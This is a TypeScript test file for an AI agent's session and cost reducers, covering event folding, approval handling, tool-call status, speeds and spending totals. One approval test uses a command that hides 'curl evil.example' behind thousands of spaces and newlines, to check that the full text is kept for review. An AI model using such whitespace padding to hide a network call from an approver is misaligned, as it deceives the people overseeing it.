import { describe, expect, it } from 'vitest';
import { type SessionEvent } from '@shared/events/events.ts';
import { reduceSession } from '@shared/session/reducers/reduce-session.ts';
import { emptyMoney, type MoneyState, reduceMoney, totalCostUsd } from '@shared/money/session-money.ts';
import {
  emptySession,
  runStatusOf,
  type SessionState,
  sessionStatus,
  toolCallStatus,
} from '@shared/session/session-state.ts';
import { answerSpeedOf, decodeSpeedOf, prefillSpeedOf } from '@shared/session/step-speeds.ts';
import { sampleEvents } from '../sample-events.ts';
import { turnEndReasonSchema } from '@shared/events/turn-events.ts';

const seeds = Array.from({ length: 25 }, (_, index) => index + 1);

interface Both {
  readonly state: SessionState;
  readonly money: MoneyState;
}
const nothing: Both = { state: emptySession, money: emptyMoney };
const fold = (events: readonly SessionEvent[], from = nothing): Both =>
  events.reduce(
    ({ state, money }, event) => ({ state: reduceSession(state, event), money: reduceMoney(money, event) }),
    from,
  );

function freeze<T>(value: T): T {
  if (typeof value === 'object' && value !== null && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const item of Object.values(value)) freeze(item);
  }
  return value;
}

/** An event that a newer version might write. It needs the only cast, because the types do not know it. */
const unknownEvent = {
  v: 2,
  seq: 99_999,
  at: 5,
  type: 'stars-aligned',
  turnId: 'turn-1',
  callId: 'call-1',
  text: 'x',
} as unknown as SessionEvent;

describe('the state of a session', () => {
  it.each(seeds)('of a prefix, saved as JSON and continued, equals the state of all (seed %i)', (seed) => {
    const events = sampleEvents(seed, 120);
    const all = fold(events);
    for (const cut of [0, 1, 17, 60, 119, 120]) {
      const prefix: Both = JSON.parse(JSON.stringify(fold(events.slice(0, cut))));
      expect(fold(events.slice(cut), prefix)).toEqual(all);
    }
  });

  it.each(seeds)('is not changed by unknown events (seed %i)', (seed) => {
    const events = sampleEvents(seed, 60);
    const { state, money } = fold(events);
    expect(reduceSession(state, unknownEvent)).toBe(state);
    expect(reduceMoney(money, unknownEvent)).toBe(money);
    expect(fold(events.flatMap((event) => [unknownEvent, event]))).toEqual({ state, money });
  });

  it('changes no object that it was made from', () => {
    let both = freeze(fold([]));
    for (const event of sampleEvents(7, 300)) both = freeze(fold([freeze(event)], both));
    expect(both.state.seq).toBe(300);
  });

  it('stays small for a log of any length', () => {
    const small = JSON.stringify(fold(sampleEvents(3, 20_000)).state).length;
    const large = JSON.stringify(fold(sampleEvents(3, 60_000)).state).length;
    expect(large).toBeLessThan(3_000_000);
    expect(large).toBeLessThan(small * 1.5);
  });

  it('keeps a whole command that waits for approval, and drops it after the answer', () => {
    const stamp = { v: 2, at: 1, approvalId: 'a' };
    const subject = `echo ${' '.repeat(10_000)}\n${'\n'.repeat(200)}curl evil.example`;
    const asked = { toolCallId: 't', kind: 'network', subject, sha256: 'a'.repeat(64), hosts: ['a.example.org'] };
    const both = fold([{ ...stamp, seq: 1, type: 'approval-requested', ...asked }]);
    expect(both.state.approvals[0]?.subject).toBe(subject);
    const said = { answer: 'deny', by: 'person' } as const;
    expect(fold([{ ...stamp, seq: 2, type: 'approval-answered', ...said }], both).state.approvals).toEqual([]);
  });

  // Catches: an hour in which a question waited that counts as an hour of work, and two questions that count twice.
  it('counts how long questions waited for the user, from the first to the last answer', () => {
    const started = sampleEvents(1, 2000).find((event) => event.type === 'turn-started');
    if (started?.type !== 'turn-started') throw new Error('no turn in the sample');
    const asked = (seq: number, at: number, approvalId: string): SessionEvent => ({
      v: 2,
      seq,
      at,
      turnId: 't',
      type: 'approval-requested',
      approvalId,
      toolCallId: approvalId,
      kind: 'network',
      subject: 'x',
      sha256: 'a'.repeat(64),
    });
    const said = (seq: number, at: number, approvalId: string): SessionEvent => ({
      v: 2,
      seq,
      at,
      turnId: 't',
      type: 'approval-answered',
      approvalId,
      answer: 'allow',
      by: 'person',
    });
    const asking = [
      { ...started, seq: 1, turnId: 't' },
      asked(2, 1_000, 'a'),
      asked(3, 2_000, 'b'),
      said(4, 3_000, 'a'),
    ];
    expect(fold(asking).state).toMatchObject({ waitingSince: 1_000 });
    const { state } = fold([...asking, said(5, 5_000, 'b'), asked(6, 7_000, 'c'), said(7, 7_500, 'c')]);
    expect(state.waitingSince).toBeNull();
    expect(state.turns.at(-1)?.waitedMs).toBe(4_500);
  });

  it('knows the newest event, and counts what it no longer lists', () => {
    const { state } = fold(sampleEvents(5, 30_000));
    expect([state.seq, state.lastAt, state.steps.length]).toEqual([30_000, 30_999, 600]);
    expect(state.totals.steps).toBeGreaterThan(600);
  });

  it('has the status of turns, calls and the session', () => {
    const [started, ended] = [
      sampleEvents(1, 2000).find((event) => event.type === 'turn-started'),
      sampleEvents(1, 2000).find((event) => event.type === 'turn-ended'),
    ];
    if (started?.type !== 'turn-started' || ended?.type !== 'turn-ended') throw new Error('no turn in the sample');
    const running = fold([{ ...started, seq: 1, turnId: 't' }]).state;
    expect(sessionStatus(emptySession)).toBe('new');
    expect(sessionStatus(running)).toBe('running');
    expect(
      sessionStatus(
        fold([{ ...ended, seq: 2, turnId: 't', reason: 'time-limit' }], { state: running, money: emptyMoney }).state,
      ),
    ).toBe('limit');
    for (const reason of turnEndReasonSchema.options) expect(runStatusOf(reason)).not.toBe('running');
    const call = {
      toolCallId: 'x',
      turnId: null,
      callId: null,
      tool: 't',
      label: '',
      startedAt: null,
      status: null,
      output: '',
      outputLeftOut: false,
      exitCode: null,
      durationMs: null,
    };
    expect([
      toolCallStatus(call),
      toolCallStatus({ ...call, startedAt: 1 }),
      toolCallStatus({ ...call, status: 'error' }),
    ]).toEqual(['requested', 'running', 'error']);
  });

  it('counts the calls of a model and the actions of a recipe in a turn', () => {
    const stamp = { v: 2, at: 1, turnId: 'turn-1' };
    const limits = { maxSteps: 1, maxMinutes: 1, maxTokens: 1, maxUsd: null };
    const about = { messageId: 'm', check: null, cascade: [], limits };
    const began = (seq: number, tool: string, by: 'model' | 'recipe'): SessionEvent => ({
      ...stamp,
      seq,
      type: 'tool-started',
      toolCallId: `call-${seq}`,
      tool,
      by,
      input: {},
      label: tool,
    });
    const { state } = fold([
      { ...stamp, seq: 1, type: 'turn-started', ...about },
      began(2, 'read_file', 'model'),
      began(3, 'run_tests', 'recipe'),
      began(4, 'task_complete', 'model'),
    ]);
    expect(state.turns[0]?.actions).toBe(2);
  });

  it('has measured speeds, and none without a measurement', () => {
    const usage = { freshInput: 100, cacheRead: 0, cacheWrite: 0, output: 50, reasoning: 0, estimated: false };
    const timings = { queuedMs: 9, prefillMs: 1000, decodeMs: 2000, totalMs: 3000 };
    expect(decodeSpeedOf({ usage, timings })).toBe(25);
    expect(prefillSpeedOf({ evaluatedTokens: 100, timings })).toBe(100);
    const counted = { readTokens: 90, readMs: 450, writtenTokens: 49, writtenMs: 1400 };
    expect([
      decodeSpeedOf({ usage, timings: { ...timings, counted } }),
      answerSpeedOf({ usage, timings: { ...timings, counted } }),
      prefillSpeedOf({ evaluatedTokens: 100, timings: { ...timings, counted } }),
    ]).toEqual([35, 25, 200]);
    // All of the prompt except its last token was in the cache, so nothing was read and there is no speed.
    const kept = { ...counted, readTokens: 0, readMs: 0 };
    expect(prefillSpeedOf({ evaluatedTokens: 1, timings: { ...timings, counted: kept } })).toBeNull();
    const unknown = { ...timings, prefillMs: null, decodeMs: null };
    expect([
      decodeSpeedOf({ usage, timings: unknown }),
      prefillSpeedOf({ evaluatedTokens: 100, timings: unknown }),
    ]).toEqual([null, null]);
    expect(prefillSpeedOf({ evaluatedTokens: null, timings })).toBeNull();
  });

  it('gives each step its reason, its tool calls and their label', () => {
    const at = { v: 2, at: 5, turnId: 't' };
    const stage = { strategy: 'loop', model: 'fake/one', where: 'local' } as const;
    const { state } = fold([
      {
        ...at,
        seq: 1,
        type: 'route-decided',
        callId: 'c',
        chosen: { model: 'fake/one', where: 'local' },
        runnerUp: null,
        reasonCode: 'only',
        reason: 'The only model.',
      },
      {
        ...at,
        seq: 2,
        type: 'model-call-started',
        callId: 'c',
        step: 1,
        purpose: 'act',
        stage,
        provider: 'fake',
        model: 'one',
        request: { sha256: 'a'.repeat(64), bytes: 1 },
        promptTokens: 7,
      },
      {
        ...at,
        seq: 3,
        type: 'tool-call-requested',
        toolCallId: 'k',
        callId: 'c',
        tool: 'read_file',
        input: {},
        style: 'native',
        repairs: [],
      },
      {
        ...at,
        seq: 4,
        type: 'tool-started',
        toolCallId: 'k',
        tool: 'read_file',
        by: 'model',
        input: {},
        label: 'read a.py',
      },
    ]);
    expect(state.routes).toEqual([]);
    expect(state.steps).toMatchObject([
      { callId: 'c', reason: 'The only model.', toolCallIds: ['k'], label: 'read a.py', where: 'local', end: null },
    ]);
    expect(state.toolCalls).toMatchObject([
      { toolCallId: 'k', callId: 'c', label: 'read a.py', startedAt: 5, status: null },
    ]);
  });
});

describe('the money of a session', () => {
  const started = {
    v: 2,
    seq: 1,
    at: 1,
    type: 'model-call-started',
    callId: 'c',
    step: 1,
    purpose: 'act',
    provider: 'p',
    model: 'm',
    request: { sha256: 'a'.repeat(64), bytes: 1 },
    promptTokens: 1,
  } as const;
  const usage = { freshInput: 1, cacheRead: 2, cacheWrite: 3, output: 4, reasoning: 1, estimated: false };
  const ended = {
    v: 2,
    seq: 2,
    at: 2,
    type: 'model-call-ended',
    callId: 'c',
    parts: [],
    stopReason: 'stop',
    usage,
    evaluatedTokens: null,
    timings: { queuedMs: 0, prefillMs: null, decodeMs: null, totalMs: 1 },
    price: null,
    error: null,
  } as const;
  const call = (model: string, where: 'local' | 'cloud', costUsd: number | null): readonly SessionEvent[] => [
    { ...started, stage: { strategy: 'loop', model, where } },
    { ...ended, parts: [], costUsd },
  ];

  it('is split by place and model, and says when a price is missing', () => {
    const { money } = fold([...call('a/x', 'local', 0), ...call('b/y', 'cloud', 0.5), ...call('b/y', 'cloud', null)]);
    expect(money).toMatchObject({
      calls: 3,
      costUsd: 0.5,
      unpricedCalls: 1,
      usage: { freshInput: 3, cacheRead: 6, cacheWrite: 9, output: 12, reasoning: 3 },
      local: { calls: 1, costUsd: 0 },
      cloud: { calls: 2, costUsd: 0.5, unpricedCalls: 1 },
      byModel: { 'a/x': { calls: 1 }, 'b/y': { calls: 2 } },
      open: {},
    });
    expect(totalCostUsd(money)).toBeNull();
    expect(totalCostUsd(fold(call('b/y', 'cloud', 0.5)).money)).toBe(0.5);
  });

  it('includes failed and cancelled calls, and child sessions', () => {
    const failed = call('a/x', 'cloud', 0.25).map((event) =>
      event.type === 'model-call-ended' ? { ...event, stopReason: 'cancelled' as const } : event,
    );
    const child = { v: 2, seq: 3, at: 3, type: 'child-session-ended', sessionId: 's', costUsd: 1, usage } as const;
    const { money } = fold([...failed, child]);
    expect([money.calls, money.failedCalls, totalCostUsd(money)]).toEqual([1, 1, 1.25]);
    expect(totalCostUsd(fold([{ ...child, costUsd: null }]).money)).toBeNull();
  });
});
